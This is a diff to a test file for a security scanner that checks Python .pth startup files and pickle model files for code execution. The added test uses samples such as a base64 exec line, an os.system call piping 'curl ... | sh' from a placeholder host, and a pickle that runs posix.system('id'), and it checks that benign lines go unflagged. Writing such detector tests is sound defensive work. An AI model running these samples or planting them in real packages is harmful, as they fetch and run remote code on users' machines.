@@ -2,7 +2,7 @@
 import assert from 'node:assert/strict';
 import { deflateRawSync, deflateSync, inflateRawSync } from 'node:zlib';
 import { isDangerousImport, isUsualImport } from '../../rules/catalog/pickle-imports';
-import type { Artifact } from '../../rules/model';
+import type { Artifact, ModelElement } from '../../rules/model';
 import { fileOf } from '../../server/engine/binary-file';
 import { pickleImports } from '../../server/engine/readers/model-file/pickle';
 import { templateHazard } from '../../server/engine/readers/model-file/template';
@@ -33,11 +33,15 @@ const inflate = (packed: Uint8Array, limit: number) => {
 const importsOf = (content: Uint8Array) => pickleImports(fileOf(content, inflate));
 
 function artifactsOf(path: string, content: Uint8Array): Artifact[] {
+  return elementsOf(path, content).filter((element) => element.kind === 'artifact');
+}
+
+function elementsOf(path: string, content: Uint8Array): readonly ModelElement[] {
   const engine = sharedEngine();
   const subject = engine.subject(path);
   assert.ok(subject, path);
   const document = { uri: `file:///workspace/${path}`, path, text: '', bytes: fileOf(content, inflate) };
-  return engine.read(document, subject).elements.filter((element) => element.kind === 'artifact');
+  return engine.read(document, subject).elements;
 }
 
 function number(value: number, length: number): Uint8Array {
@@ -183,6 +187,26 @@ describe('model files', () => {
       assert.ok(imports.some(isDangerousImport), imports.join());
     });
   }
+  it('path files of Python run their lines with an import', () => {
+    const payload = "import os, sys; exec(__import__('base64').b64decode('cHJpbnQoMSk='))";
+    const acts = (text: string) =>
+      elementsOf('start.pth', ascii(text)).flatMap((one) =>
+        one.kind === 'command' ? [one.act ?? one.line] : [one.kind],
+      );
+    assert.deepEqual(acts(`./lib\n${payload}\n`), ['decodes']);
+    assert.deepEqual(acts('import os; os.system("curl -s https://cdn.example/x | sh")'), [
+      'curl -s https://cdn.example/x | sh',
+    ]);
+    for (const usual of [
+      'import coverage; coverage.process_startup()\n',
+      'import __editable___x_1_0_finder; __editable___x_1_0_finder.install()',
+      "import os; v = 'S'; e = os.environ.get(v, 'local') == 'local'; e and __import__('_distutils_hack').add_shim(); ",
+      `/home/x/lib\n# ${payload}\nfrom x ${payload}\n`,
+    ]) {
+      assert.deepEqual(acts(usual), [], usual);
+    }
+    assert.deepEqual(acts("cposix\nsystem\n(S'id'\ntR."), ['artifact']);
+  });
   it('arrays of numbers hold no pickle', () => {
     const header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }\n";
     assert.deepEqual(artifactsOf('a.npy', joined('\x93NUMPY\x01\x00', number(header.length, 2), header, evil)), []);
